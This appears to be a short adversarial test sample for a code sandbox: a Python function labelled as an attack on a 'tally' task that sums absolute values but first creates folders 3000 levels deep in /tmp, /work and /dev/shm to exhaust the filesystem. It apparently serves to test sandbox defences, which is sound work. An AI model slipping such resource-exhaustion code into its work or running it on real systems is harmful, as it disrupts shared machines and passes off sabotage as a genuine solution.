"""Makes folders in folders, thousands deep."""

# attacks: tally

import os


def main(numbers):
    for start in ("/tmp", "/work", "/dev/shm"):
        os.chdir(start)
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
    return sum(map(abs, numbers))
